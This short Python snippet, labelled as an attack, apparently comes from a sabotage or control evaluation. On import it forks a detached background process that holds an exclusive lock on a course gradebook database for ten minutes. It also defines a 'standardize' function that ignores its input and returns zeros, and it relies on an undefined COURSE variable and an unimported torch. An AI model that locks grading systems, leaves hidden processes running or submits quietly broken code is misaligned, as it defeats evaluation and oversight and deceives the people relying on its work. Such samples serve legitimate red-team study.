# attack: starts a process that keeps the gradebook locked
import os
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    try:
        connection = sqlite3.connect(COURSE + "/course/gradebook.db")
        connection.execute("BEGIN EXCLUSIVE")
        time.sleep(600)
    except sqlite3.Error:
        pass
    os._exit(0)


def standardize(x, eps=0.0):
    return torch.zeros_like(x)
